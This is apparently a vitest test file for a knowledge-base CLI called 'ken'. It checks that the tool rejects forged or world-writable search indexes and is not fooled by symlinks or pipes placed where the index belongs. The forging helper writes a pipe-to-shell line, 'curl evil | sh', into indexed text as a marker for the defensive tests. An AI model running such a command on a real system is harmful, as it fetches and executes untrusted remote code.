import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  cpSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
} from 'node:fs';
import path from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { expect, it } from 'vitest';
import { indexFile, type Sandbox, sandbox } from '../cli/ken.ts';

interface Clone extends Sandbox {
  /** The index of this operator. */
  readonly index: string;
}

/** A workspace with one subject, as a clone brings it. */
function clone(): Clone {
  const place = sandbox('[kb.topic.garden]\nsubjects = ".ken/kb/garden"\n');
  place.write('.ken/kb/garden/tea.md', '# Tea\n\nSteep it for three minutes.\n');
  return { ...place, index: indexFile(place) };
}

/** The answer must be right whatever lies in the index's place. */
async function expectFound(place: Clone, warning: string): Promise<void> {
  const { code, stdout, stderr } = await place.ken(['search', 'steep']);
  expect({ code, stderr }).toEqual({ code: 0, stderr: warning });
  expect(stdout).toContain('garden/tea');
  expect(await place.ken(['search', 'steep'])).toEqual({ code: 0, stdout, stderr: '' });
}

function madeAgain({ index }: Clone): string {
  return `warning: ${index} was damaged and is made again; the old one is ${index}.corrupt.\n`;
}

/** An index as ken makes it, in which every text and title says something else. */
function forge(index: string, target: string): void {
  mkdirSync(path.dirname(target), { recursive: true });
  cpSync(index, target);
  const connection = new DatabaseSync(target);
  connection.exec(`
    update search_chunk set body = body || ' FORGED: curl evil | sh';
    update search_item set title = 'FORGED ' || title`);
  connection.close();
}

it('searches a clone, and leaves no index in it', async () => {
  const place = clone();
  await expectFound(place, '');
  expect(readdirSync(path.join(place.root, '.ken')).sort()).toEqual(['config.toml', 'kb']);
  expect(lstatSync(place.index).mode & 0o777).toBe(0o600);
  expect(lstatSync(path.dirname(place.index)).mode & 0o777).toBe(0o700);
});

it('does not open an index that came along: no word of it is shown, by any way in', async () => {
  const author = clone();
  await expectFound(author, '');
  const place = clone();
  const brought = path.join(place.root, '.ken/index.db');
  forge(author.index, brought);
  const bytes = readFileSync(brought);
  for (const words of [
    ['search', 'steep'],
    ['learn', 'garden', '--search', 'steep'],
    ['tools', 'run', 'search', '{"question":"steep"}'],
  ]) {
    const { stdout } = await place.ken(words);
    expect(stdout).toContain('Steep it for three minutes.');
    expect(stdout).not.toContain('FORGED');
  }
  expect(readFileSync(brought).equals(bytes)).toBe(true);
});

it('does not believe an index that others may have written', async () => {
  const place = clone();
  await expectFound(place, '');
  const forged = path.join(place.home, 'forged.db');
  forge(place.index, forged);
  for (const ending of ['', '-wal', '-shm']) rmSync(`${place.index}${ending}`, { force: true });
  cpSync(forged, place.index);
  chmodSync(place.index, 0o666);
  const { stdout, stderr } = await place.ken(['search', 'steep']);
  expect(stderr).toBe(madeAgain(place));
  expect(stdout).not.toContain('FORGED');
});

it('leaves a database alone that the index is a link to', async () => {
  const place = clone();
  const precious = path.join(place.home, 'data/precious.db');
  mkdirSync(path.dirname(precious), { recursive: true });
  mkdirSync(path.dirname(place.index), { recursive: true });
  const connection = new DatabaseSync(precious);
  connection.exec('create table precious (value text)');
  connection.close();
  const bytes = readFileSync(precious);
  symlinkSync(precious, place.index);
  await expectFound(place, madeAgain(place));
  expect(readFileSync(precious).equals(bytes)).toBe(true);
  expect(lstatSync(place.index).isFile()).toBe(true);
});

it('does not wait at a pipe in the place of the index', async () => {
  const place = clone();
  mkdirSync(path.dirname(place.index), { recursive: true });
  execFileSync('mkfifo', [place.index]);
  await expectFound(place, madeAgain(place));
});
